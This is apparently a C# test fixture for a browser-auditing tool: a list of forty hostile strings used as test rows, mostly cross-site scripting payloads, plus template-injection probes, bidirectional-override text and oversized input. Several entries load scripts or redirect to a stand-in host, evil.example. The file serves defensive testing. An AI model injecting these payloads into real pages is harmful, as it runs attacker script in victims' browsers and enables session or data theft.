namespace Auditor.Browser.Tests;

/// <summary>Forty strings that break careless pages. Whoever runs calls <c>alert</c> or sets <c>window.ran</c>.</summary>
internal static class HostileStrings
{
    public static IReadOnlyList<string> All { get; } =
    [
        "<script>alert(1)</script>", "<SCRIPT>window.ran=1</SCRIPT>", "<script src=//evil.example/x.js></script>", "</script><script>alert(1)</script>", "<scr<script>ipt>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img src=\"https://evil.example/p.png\">", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", "<math><mtext></mtext><script>alert(1)</script></math>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
        "<embed src=//evil.example/x.swf>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video src=//evil.example/v onerror=alert(1)>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<form action=//evil.example><button>x</button></form>", "<style>*{display:none}</style>",
        "</style><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea></pre></template><script>alert(1)</script>", "--><script>alert(1)</script><!--", "<![CDATA[<script>alert(1)</script>]]>",
        "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' x='", "`-alert(1)-`", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
        "{{ 7*7 }}{{ include 'x' }}", "${window.ran=1}#{7*7}<%= 1 %>", "style=background:url(//evil.example/x);expression(alert(1))", "\u202Etxt.exe\u202C\u2066\u2069\u200F倒序", new string('长', 400) + new string('W', 4000),
    ];

    public static TheoryData<string> Rows => [.. All];
}
